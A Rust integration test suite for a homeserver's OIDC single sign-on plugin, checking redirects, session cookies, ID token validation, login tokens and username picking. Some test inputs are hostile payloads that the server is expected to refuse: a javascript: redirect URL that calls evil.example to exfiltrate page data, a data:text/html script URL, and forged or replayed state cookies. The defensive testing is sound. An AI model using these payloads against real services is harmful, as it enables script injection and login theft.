//! Single sign-on through the reference plugin `plugins/oidc` against a real
//! OpenID provider (node's oidc-provider, `support::idp`), over HTTP as a
//! browser makes it (`support::Browser`): `/login`'s flows, the redirect and
//! its checks, a new user registered from the template or picking a
//! username, a returning user, the login token, the client whitelist, user-
//! interactive auth by SSO, custom templates; and every refusal (state,
//! cookie, ID token, login token, a provider that does not answer) leaving
//! nothing behind.

use http::StatusCode;
use reqwest::Url;
use serde_json::{Value, json};
use weft::{crypto::token::hash_access_token, storage::SsoCounts};

use crate::{
    on_both_backends,
    plugins::guest,
    support::{Backend, Browser, Page, TestServer, errcode, free_port, idp},
};

on_both_backends!(
    login_flows_advertise_the_providers_and_login_tokens,
    the_redirect_needs_a_redirect_url_a_known_provider_and_the_public_host,
    a_new_user_is_registered_from_the_template_and_returns_as_the_same_user,
    a_new_user_picks_a_username_on_the_picker,
    a_redirect_outside_the_whitelist_gets_a_confirmation_page,
    a_missing_tampered_or_replayed_state_is_refused_and_creates_nothing,
    bad_id_tokens_are_refused_and_create_nothing,
    login_tokens_are_single_use_and_expire,
    sso_users_reauthenticate_by_sso_and_another_user_is_refused,
    a_provider_that_does_not_answer_fails_closed,
);

/// The client's redirect URL, in `sso.client_whitelist`.
pub const CLIENT: &str = "https://client.example/app";

/// One `[[plugins]]` entry: `plugins/oidc` as identity provider `id`
/// (advertised `oidc-{id}`) with the provider's client `client`.
pub struct Provider {
    pub id: &'static str,
    pub client: &'static str,
    pub confirm_localpart: bool,
    pub issuer: Option<String>,
}

impl Provider {
    pub fn new(id: &'static str, client: &'static str) -> Self {
        Self { id, client, confirm_localpart: false, issuer: None }
    }

    pub fn confirming(mut self) -> Self {
        self.confirm_localpart = true;
        self
    }

    /// The `[[plugins]]` table of this provider.
    pub fn toml(&self) -> String {
        let issuer = self.issuer.clone().unwrap_or_else(|| idp().issuer.clone());
        let wasm = guest("oidc").display().to_string();
        format!(
            "[[plugins]]\nname = \"sso-{id}\"\nrole = \"sso-provider\"\npath = {wasm:?}\n\
             [plugins.limits]\ntimeout_ms = 10000\n\
             [plugins.config]\nidp_id = \"{id}\"\nidp_name = \"Test IdP {id}\"\nidp_brand = \"test\"\nissuer = \"{issuer}\"\nskip_verification = true\n\
             client_id = \"{client}\"\nclient_secret = \"{client}-secret\"\nscopes = [\"openid\", \"profile\", \"email\"]\n\
             [plugins.config.user_mapping_provider.config]\nlocalpart_template = \"{{{{ user.preferred_username | lower }}}}\"\n\
             display_name_template = \"{{{{ user.name }}}}\"\nconfirm_localpart = {confirm}\n\
             [plugins.capabilities]\nallowed_outbound_hosts = [\"{issuer}\"]\n",
            id = self.id,
            client = self.client,
            confirm = self.confirm_localpart,
        )
    }
}

/// A server on a port known in advance (`public_baseurl` names it) with the
/// SSO plugins of `providers`, and `extra` top-level options.
pub async fn start(backend: Backend, providers: &[Provider], extra: &str) -> TestServer {
    start_with_whitelist(backend, providers, extra, &[CLIENT]).await
}

/// `start` with `sso.client_whitelist` = `whitelist`.
pub async fn start_with_whitelist(backend: Backend, providers: &[Provider], extra: &str, whitelist: &[&str]) -> TestServer {
    let port = free_port();
    let mut text = format!("public_baseurl = \"http://127.0.0.1:{port}/\"\nip_range_whitelist = [\"127.0.0.0/8\"]\n{extra}\n");
    text.push_str(&format!("[sso]\nclient_whitelist = {whitelist:?}\n"));
    for provider in providers {
        text.push_str(&provider.toml());
    }
    TestServer::builder(backend).port(port).config(&text).start().await
}

/// `GET /login/sso/redirect/oidc-{id}?redirectUrl=`.
pub fn redirect_path(id: &str, redirect_url: &str) -> String {
    let query = form_urlencoded::Serializer::new(String::new()).append_pair("redirectUrl", redirect_url).finish();
    format!("/_matrix/client/v3/login/sso/redirect/oidc-{id}?{query}")
}

/// Starts a login at `oidc-{id}`: the redirect to the provider's authorization URL.
pub async fn begin(server: &TestServer, browser: &Browser, id: &str, redirect_url: &str) -> Url {
    let page = browser.get(&format!("{}{}", server.base, redirect_path(id, redirect_url))).await;
    assert_eq!(page.status, StatusCode::FOUND, "the redirect to the provider: {}", page.body);
    let url = page.location.expect("a Location");
    assert!(url.as_str().starts_with(&idp().issuer), "to the provider: {url}");
    url
}

/// A whole login up to the callback's answer.
pub async fn log_in(server: &TestServer, browser: &Browser, id: &str, user: &str, password: &str, redirect_url: &str) -> Page {
    let authorization = begin(server, browser, id, redirect_url).await;
    let callback = browser.sign_in(&authorization, user, password).await;
    assert!(callback.as_str().starts_with(&format!("{}/_synapse/client/oidc/callback", server.base)), "back to Weft: {callback}");
    browser.get(callback.as_str()).await
}

/// The `loginToken` of a redirect to the client.
pub fn login_token(url: &Url) -> String {
    url.query_pairs().find(|(k, _)| k == "loginToken").map(|(_, v)| v.into_owned()).unwrap_or_else(|| panic!("a loginToken in {url}"))
}

pub async fn exchange(server: &TestServer, token: &str) -> (StatusCode, Value) {
    server.post("/_matrix/client/v3/login", None, json!({"type": "m.login.token", "token": token})).await
}

/// A login's token exchanged: the access token and user id.
pub async fn logged_in_user(server: &TestServer, page: &Page) -> (String, String) {
    assert_eq!(page.status, StatusCode::FOUND, "redirected to the client: {}", page.body);
    let target = page.location.clone().expect("a Location");
    assert!(target.as_str().starts_with(CLIENT), "to the client: {target}");
    let (status, body) = exchange(server, &login_token(&target)).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let token = body["access_token"].as_str().unwrap().to_owned();
    let (status, whoami) = server.get("/_matrix/client/v3/account/whoami", Some(&token)).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(whoami["user_id"], body["user_id"]);
    (token, body["user_id"].as_str().unwrap().to_owned())
}

async fn counts(server: &TestServer) -> SsoCounts {
    server.state.storage.sso_counts().await.unwrap()
}

/// A page's text with MiniJinja's HTML escapes (`&#x2f;`, `&amp;`, ...) undone, as a browser reads it.
fn unescaped(body: &str) -> String {
    let mut out = String::new();
    let mut rest = body;
    while let Some(at) = rest.find('&') {
        out.push_str(&rest[..at]);
        rest = &rest[at..];
        let Some(end) = rest.find(';') else { break };
        let entity = &rest[1..end];
        let decoded = match entity {
            "amp" => Some('&'),
            "lt" => Some('<'),
            "gt" => Some('>'),
            "quot" => Some('"'),
            _ => entity.strip_prefix("#x").and_then(|hex| u32::from_str_radix(hex, 16).ok()).and_then(char::from_u32),
        };
        match decoded {
            Some(c) => {
                out.push(c);
                rest = &rest[end + 1..];
            }
            None => {
                out.push('&');
                rest = &rest[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

fn is_html_page(page: &Page) -> bool {
    page.body.contains("<!doctype html>") && page.body.contains("<html lang=")
}

async fn login_flows_advertise_the_providers_and_login_tokens(backend: Backend) {
    let plain = TestServer::start(backend).await;
    let (_, flows) = plain.get("/_matrix/client/v3/login", None).await;
    assert_eq!(flows["flows"], json!([{"type": "m.login.password"}, {"type": "m.login.application_service"}]), "no SSO without an SSO plugin");
    drop(plain);

    let server = start(backend, &[Provider::new("basic", "weft-basic"), Provider::new("post", "weft-post")], "").await;
    let (status, body) = server.get("/_matrix/client/v3/login", None).await;
    assert_eq!(status, StatusCode::OK);
    let flows = body["flows"].as_array().unwrap();
    let sso = flows.iter().find(|f| f["type"] == "m.login.sso").unwrap_or_else(|| panic!("m.login.sso in {body}"));
    let listed: Vec<(&Value, &Value, &Value)> = sso["identity_providers"].as_array().unwrap().iter().map(|p| (&p["id"], &p["name"], &p["brand"])).collect();
    assert_eq!(
        listed,
        [(&json!("oidc-basic"), &json!("Test IdP basic"), &json!("test")), (&json!("oidc-post"), &json!("Test IdP post"), &json!("test"))],
        "{body}"
    );
    assert!(flows.iter().any(|f| f["type"] == "m.login.token"), "{body}");
    assert!(flows.iter().any(|f| f["type"] == "m.login.password"), "{body}");
}

async fn the_redirect_needs_a_redirect_url_a_known_provider_and_the_public_host(backend: Backend) {
    let server = start(backend, &[Provider::new("basic", "weft-basic")], "").await;
    let (status, body) = server.get("/_matrix/client/v3/login/sso/redirect/oidc-basic", None).await;
    assert_eq!((status, errcode(&body)), (StatusCode::BAD_REQUEST, "M_MISSING_PARAM"), "{body}");
    let (status, body) = server.get("/_matrix/client/v3/login/sso/redirect", None).await;
    assert_eq!((status, errcode(&body)), (StatusCode::BAD_REQUEST, "M_MISSING_PARAM"), "{body}");
    let (status, body) = server.get(&redirect_path("nobody", CLIENT), None).await;
    assert_eq!(status, StatusCode::NOT_FOUND, "{body}");
    // A redirect target that would run script on this server's confirmation page gets no attempt.
    for hostile in ["javascript:fetch('//evil.example/?'+document.links[0].href)//", " Data:text/html,<script>x</script>"] {
        let (status, body) = server.get(&redirect_path("basic", hostile), None).await;
        assert_eq!((status, errcode(&body)), (StatusCode::BAD_REQUEST, "M_INVALID_PARAM"), "{hostile}: {body}");
    }

    // Another host name for the same server: sent to public_baseurl's first, nothing stored.
    let other_host = server.base.replace("127.0.0.1", "localhost");
    let browser = Browser::new();
    let page = browser.get(&format!("{other_host}{}", redirect_path("basic", CLIENT))).await;
    assert_eq!(page.status, StatusCode::FOUND);
    assert_eq!(page.location.as_ref().map(Url::as_str), Some(format!("{}{}", server.base, redirect_path("basic", CLIENT)).as_str()));
    assert!(page.set_cookies.is_empty(), "no session on the wrong host: {:?}", page.set_cookies);
    assert_eq!(counts(&server).await.attempts, 0);

    // On the public host: the authorization request, a stored attempt, the session cookies.
    let page = browser.get(&format!("{}{}", server.base, redirect_path("basic", CLIENT))).await;
    assert_eq!(page.status, StatusCode::FOUND, "{}", page.body);
    let url = page.location.clone().unwrap();
    let query: std::collections::HashMap<String, String> = url.query_pairs().into_owned().collect();
    assert_eq!(query["response_type"], "code");
    assert_eq!(query["scope"], "openid profile email");
    assert_eq!(query["redirect_uri"], format!("{}/_synapse/client/oidc/callback", server.base));
    assert_eq!(query["code_challenge_method"], "S256");
    assert!(query.contains_key("nonce") && query.contains_key("code_challenge"));
    for name in ["oidc_session", "oidc_session_no_samesite"] {
        let cookie = page.set_cookies.iter().find(|c| c.starts_with(&format!("{name}="))).unwrap_or_else(|| panic!("{name} in {:?}", page.set_cookies));
        for attribute in ["Path=/_synapse/client/oidc", "Max-Age=3600", "HttpOnly", "Secure"] {
            assert!(cookie.contains(attribute), "{attribute} in {cookie}");
        }
        assert_eq!(cookie.split(';').next().unwrap(), format!("{name}={}", query["state"]));
    }
    assert!(server.state.storage.sso_attempt_exists(&query["state"]).await.unwrap(), "the attempt is in the database");
}

async fn a_new_user_is_registered_from_the_template_and_returns_as_the_same_user(backend: Backend) {
    let server = start(backend, &[Provider::new("basic", "weft-basic")], "").await;
    let page = log_in(&server, &Browser::new(), "basic", "alice", "wonderland", CLIENT).await;
    assert!(
        page.set_cookies.iter().any(|c| c.starts_with("oidc_session=;") && c.contains("Max-Age=0")),
        "the callback clears the session cookie: {:?}",
        page.set_cookies
    );
    let (token, user_id) = logged_in_user(&server, &page).await;
    assert_eq!(user_id, server.user_id("alice.liddell"));
    let (_, profile) = server.get(&format!("/_matrix/client/v3/profile/{user_id}"), Some(&token)).await;
    assert_eq!(profile["displayname"], "Alice Liddell");

    // Returning: the same user, straight back to the client.
    let again = log_in(&server, &Browser::new(), "basic", "alice", "wonderland", CLIENT).await;
    let (_, returning) = logged_in_user(&server, &again).await;
    assert_eq!(returning, user_id);
    let counts = counts(&server).await;
    assert_eq!((counts.external_ids, counts.attempts, counts.login_tokens), (1, 0, 0), "one mapping; attempts and tokens used up");

    // A password login is no way into an SSO-only account.
    let (status, _) = server.post("/_matrix/client/v3/login", None, crate::support::login_body("alice.liddell", "")).await;
    assert_ne!(status, StatusCode::OK);
}

async fn a_new_user_picks_a_username_on_the_picker(backend: Backend) {
    let server = start(backend, &[Provider::new("basic", "weft-basic").confirming()], "").await;
    server.register("alice.liddell", "taken-password").await;
    let browser = Browser::new();
    let page = log_in(&server, &browser, "basic", "alice", "wonderland", CLIENT).await;
    assert_eq!(page.status, StatusCode::FOUND, "{}", page.body);
    assert_eq!(page.location.as_ref().map(Url::path), Some("/_synapse/client/pick_username/account_details"));
    let cookie = page.set_cookies.iter().find(|c| c.starts_with("username_mapping_session=")).expect("the username session cookie");
    assert!(cookie.contains("Max-Age=900") && cookie.contains("HttpOnly") && cookie.contains("Secure"), "{cookie}");
    assert_eq!(counts(&server).await.external_ids, 0, "nobody registered before the user picks");

    let picker = format!("{}/_synapse/client/pick_username/account_details", server.base);
    let form = browser.get(&picker).await;
    assert_eq!(form.status, StatusCode::OK);
    assert!(is_html_page(&form));
    assert!(form.body.contains("method=\"post\""), "a POST form: {}", form.body);
    assert!(form.body.contains("value=\"alice.liddell1\""), "a taken suggestion gets a number: {}", form.body);
    assert!(form.body.contains("name=\"use_display_name\""), "{}", form.body);
    assert!(form.body.contains("<label for=\"username\">"), "labelled: {}", form.body);

    let check = |name: &str| format!("{}/_synapse/client/pick_username/check?username={name}", server.base);
    assert_eq!(serde_json::from_str::<Value>(&browser.get(&check("alice.liddell")).await.body).unwrap(), json!({"available": false}));
    assert_eq!(serde_json::from_str::<Value>(&browser.get(&check("wonder")).await.body).unwrap(), json!({"available": true}));
    assert_eq!(serde_json::from_str::<Value>(&browser.get(&check("Not%20Valid")).await.body).unwrap(), json!({"available": false}));
    let (status, _) = server.get("/_synapse/client/pick_username/check?username=wonder", None).await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "not without the session cookie");

    // A taken name is refused with the form again.
    let refused = browser.post_form(&picker, &[("username", "alice.liddell"), ("use_display_name", "true")]).await;
    assert_eq!(refused.status, StatusCode::BAD_REQUEST);
    assert!(refused.body.contains("not available"), "{}", refused.body);

    let submitted = browser.post_form(&picker, &[("username", "wonder"), ("use_display_name", "true")]).await;
    assert_eq!(submitted.status, StatusCode::FOUND, "{}", submitted.body);
    assert_eq!(submitted.location.as_ref().map(Url::path), Some("/_synapse/client/sso_register"));
    let registered = browser.get(submitted.location.unwrap().as_str()).await;
    let (token, user_id) = logged_in_user(&server, &registered).await;
    assert_eq!(user_id, server.user_id("wonder"));
    let (_, profile) = server.get(&format!("/_matrix/client/v3/profile/{user_id}"), Some(&token)).await;
    assert_eq!(profile["displayname"], "Alice Liddell");
    assert_eq!(counts(&server).await.username_sessions, 0, "the session is used up");

    // Returning: no picker.
    let again = log_in(&server, &Browser::new(), "basic", "alice", "wonderland", CLIENT).await;
    assert_eq!(logged_in_user(&server, &again).await.1, user_id);
}

async fn a_redirect_outside_the_whitelist_gets_a_confirmation_page(backend: Backend) {
    let server = start(backend, &[Provider::new("basic", "weft-basic")], "").await;
    let elsewhere = "https://elsewhere.example/steal?x=1";
    let page = log_in(&server, &Browser::new(), "basic", "alice", "wonderland", elsewhere).await;
    assert_eq!(page.status, StatusCode::OK, "a page, not a redirect");
    assert!(page.location.is_none());
    assert!(is_html_page(&page));
    assert!(page.body.contains("Continue to your account"), "{}", page.body);
    assert!(unescaped(&page.body).contains("https://elsewhere.example/steal"), "names the target: {}", page.body);
    // A prefix of a whitelisted entry is not whitelisted.
    let near = log_in(&server, &Browser::new(), "basic", "alice", "wonderland", "https://client.example/").await;
    assert_eq!(near.status, StatusCode::OK, "{}", near.body);
}

async fn a_missing_tampered_or_replayed_state_is_refused_and_creates_nothing(backend: Backend) {
    let server = start(backend, &[Provider::new("basic", "weft-basic")], "").await;
    let browser = Browser::new();
    let authorization = begin(&server, &browser, "basic", CLIENT).await;
    let callback = browser.sign_in(&authorization, "alice", "wonderland").await;
    let before = counts(&server).await;

    // Without the cookie (another browser): a 400 page.
    let page = Browser::new().get(callback.as_str()).await;
    assert_eq!(page.status, StatusCode::BAD_REQUEST);
    assert!(is_html_page(&page) && page.body.contains("missing_session"), "{}", page.body);

    // A tampered state.
    let mut tampered = callback.clone();
    let pairs: Vec<(String, String)> =
        callback.query_pairs().map(|(k, v)| (k.to_string(), if k == "state" { format!("{v}x") } else { v.into_owned() })).collect();
    tampered.query_pairs_mut().clear().extend_pairs(pairs);
    let state = callback.query_pairs().find(|(k, _)| k == "state").unwrap().1.into_owned();
    let page = browser.get(tampered.as_str()).await;
    assert_eq!(page.status, StatusCode::BAD_REQUEST);
    assert!(page.body.contains("mismatching_session"), "{}", page.body);
    assert_eq!(counts(&server).await, before, "nothing created or used");

    // A state whose cookie is forged to match it, but which no attempt has.
    let forged = Browser::new();
    forged.set_cookie(&server.base, "oidc_session", &format!("{state}x"), "/_synapse/client/oidc");
    let page = forged.get(tampered.as_str()).await;
    assert_eq!(page.status, StatusCode::BAD_REQUEST, "{}", page.body);
    assert_eq!(counts(&server).await, before);

    // The real one (the cookie was cleared by the refusals: put back as the browser had it).
    browser.set_cookie(&server.base, "oidc_session", &state, "/_synapse/client/oidc");
    let page = browser.get(callback.as_str()).await;
    let (_, user_id) = logged_in_user(&server, &page).await;
    let after = counts(&server).await;

    // Replayed, cookie and all: the attempt is used up.
    browser.set_cookie(&server.base, "oidc_session", &state, "/_synapse/client/oidc");
    let page = browser.get(callback.as_str()).await;
    assert_eq!(page.status, StatusCode::BAD_REQUEST);
    assert!(page.body.contains("expired_session"), "{}", page.body);
    assert_eq!(counts(&server).await, after, "the replay creates nothing");
    assert_eq!(user_id, server.user_id("alice.liddell"));
}

async fn bad_id_tokens_are_refused_and_create_nothing(backend: Backend) {
    let cases = [
        ("aud", "weft-tamper-aud", "wrong-audience"),
        ("iss", "weft-tamper-iss", "wrong-issuer"),
        ("key", "weft-tamper-key", "bad-signature"),
        ("none", "weft-tamper-none", "bad-signature"),
        ("nonce", "weft-tamper-nonce", "wrong-nonce"),
        ("exp", "weft-tamper-exp", "expired"),
    ];
    let providers: Vec<Provider> = cases.iter().map(|(id, client, _)| Provider::new(id, client)).collect();
    let server = start(backend, &providers, "").await;
    let before = counts(&server).await;
    for (id, _, kind) in cases {
        let page = log_in(&server, &Browser::new(), id, "alice", "wonderland", CLIENT).await;
        assert_eq!(page.status, StatusCode::BAD_REQUEST, "{id}: {}", page.body);
        assert!(page.location.is_none() && is_html_page(&page));
        assert!(page.body.contains(kind), "{id}: refused as {kind}: {}", page.body);
        let now = counts(&server).await;
        assert_eq!((now.users, now.external_ids, now.login_tokens, now.username_sessions), (before.users, 0, 0, 0), "{id}: nothing created");
    }
    assert!(!server.state.storage.user_id_taken(&server.uid("alice.liddell")).await.unwrap());
}

async fn login_tokens_are_single_use_and_expire(backend: Backend) {
    let server = start(backend, &[Provider::new("basic", "weft-basic")], "").await;
    let page = log_in(&server, &Browser::new(), "basic", "alice", "wonderland", CLIENT).await;
    let token = login_token(page.location.as_ref().unwrap());
    let (status, body) = exchange(&server, &token).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let devices = |body: &Value| body["device_id"].as_str().unwrap().to_owned();
    let first_device = devices(&body);

    let (status, body) = exchange(&server, &token).await;
    assert_eq!((status, errcode(&body)), (StatusCode::FORBIDDEN, "M_FORBIDDEN"), "reused: {body}");
    let (status, body) = exchange(&server, "never-issued").await;
    assert_eq!((status, errcode(&body)), (StatusCode::FORBIDDEN, "M_FORBIDDEN"), "unknown: {body}");

    let user = server.uid("alice.liddell");
    server.state.storage.add_login_token(&hash_access_token("expired-token"), &user, Some("oidc-basic"), weft::storage::now_ms() - 1).await.unwrap();
    let (status, body) = exchange(&server, "expired-token").await;
    assert_eq!((status, errcode(&body)), (StatusCode::FORBIDDEN, "M_FORBIDDEN"), "expired: {body}");
    let valid_until = weft::storage::now_ms() + weft::api::sso::LOGIN_TOKEN_LIFETIME_MS;
    assert_eq!(weft::api::sso::LOGIN_TOKEN_LIFETIME_MS, 120_000, "two minutes");
    server.state.storage.add_login_token(&hash_access_token("fresh-token"), &user, Some("oidc-basic"), valid_until).await.unwrap();
    let (status, body) = exchange(&server, "fresh-token").await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_ne!(devices(&body), first_device, "each login a new device");
    assert_eq!(counts(&server).await.login_tokens, 0);
}

async fn sso_users_reauthenticate_by_sso_and_another_user_is_refused(backend: Backend) {
    let server = start(backend, &[Provider::new("basic", "weft-basic")], "").await;
    let page = log_in(&server, &Browser::new(), "basic", "alice", "wonderland", CLIENT).await;
    let (token, _) = logged_in_user(&server, &page).await;
    let second = log_in(&server, &Browser::new(), "basic", "alice", "wonderland", CLIENT).await;
    let (status, body) = exchange(&server, &login_token(second.location.as_ref().unwrap())).await;
    assert_eq!(status, StatusCode::OK);
    let device = body["device_id"].as_str().unwrap().to_owned();
    let path = format!("/_matrix/client/v3/devices/{device}");

    for (user, password, allowed) in [("bob", "builder", false), ("alice", "wonderland", true)] {
        let (status, body) = server.delete(&path, Some(&token), json!({})).await;
        assert_eq!(status, StatusCode::UNAUTHORIZED, "{body}");
        assert_eq!(body["flows"], json!([{"stages": ["m.login.sso"]}]), "an SSO-only user is offered SSO alone");
        let session = body["session"].as_str().unwrap().to_owned();

        let browser = Browser::new();
        let fallback = browser.get(&format!("{}/_matrix/client/v3/auth/m.login.sso/fallback/web?session={session}", server.base)).await;
        assert_eq!(fallback.status, StatusCode::OK, "{}", fallback.body);
        assert!(is_html_page(&fallback) && fallback.body.contains("remove a device"), "{}", fallback.body);
        let start = unescaped(fallback.body.split("href=\"").nth(1).and_then(|rest| rest.split('"').next()).expect("a link to the provider"));
        let callback = browser.sign_in(&Url::parse(&start).unwrap(), user, password).await;
        let done = browser.get(callback.as_str()).await;
        let retry = server.delete(&path, Some(&token), json!({"auth": {"session": session}})).await;
        if allowed {
            assert_eq!(done.status, StatusCode::OK, "{}", done.body);
            assert_eq!(retry.0, StatusCode::OK, "re-authenticated: {}", retry.1);
        } else {
            assert_eq!(done.status, StatusCode::FORBIDDEN, "another provider user: {}", done.body);
            assert_eq!((retry.0, errcode(&retry.1)), (StatusCode::FORBIDDEN, "M_FORBIDDEN"), "{}", retry.1);
            assert_eq!(counts(&server).await.external_ids, 1, "bob is mapped to nobody by a re-authentication");
        }
    }
    let (_, devices) = server.get("/_matrix/client/v3/devices", Some(&token)).await;
    assert_eq!(devices["devices"].as_array().unwrap().len(), 1, "{devices}");
}

async fn a_provider_that_does_not_answer_fails_closed(backend: Backend) {
    // Accepts connections and never answers.
    let silent = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let issuer = format!("http://{}", silent.local_addr().unwrap());
    let mut provider = Provider::new("silent", "weft-basic");
    provider.issuer = Some(issuer);
    let server = start(backend, &[provider], "").await;
    let page = Browser::new().get(&format!("{}{}", server.base, redirect_path("silent", CLIENT))).await;
    assert_eq!(page.status, StatusCode::SERVICE_UNAVAILABLE, "{}", page.body);
    assert!(is_html_page(&page) && page.location.is_none());
    assert!(page.body.contains("Login failed"), "{}", page.body);
    assert_eq!(counts(&server).await.attempts, 0, "no attempt stored");
    drop(silent);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn custom_templates_replace_the_pages() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("sso_error.html"),
        "<!doctype html><html lang=\"en\"><p>Our own page: {{ error }} on {{ server_name }} <b>{{ error_description }}</b></p></html>",
    )
    .unwrap();
    // A template that does not render: the built-in page instead.
    std::fs::write(dir.path().join("sso_redirect_confirm.html"), "{% if %}").unwrap();
    let extra = format!("[templates]\ncustom_template_directory = {:?}", dir.path().display().to_string());
    let server = start(Backend::Sqlite, &[Provider::new("basic", "weft-basic")], &extra).await;
    let page = Browser::new().get(&format!("{}/_synapse/client/oidc/callback?state=x&code=y", server.base)).await;
    assert_eq!(page.status, StatusCode::BAD_REQUEST);
    assert!(page.body.starts_with("<!doctype html><html lang=\"en\"><p>Our own page: missing_session on "), "{}", page.body);
    assert!(page.body.contains(&server.server_name));
    let confirm = log_in(&server, &Browser::new(), "basic", "alice", "wonderland", "https://elsewhere.example/").await;
    assert_eq!(confirm.status, StatusCode::OK);
    assert!(confirm.body.contains("Continue to your account"), "the built-in page: {}", confirm.body);
}
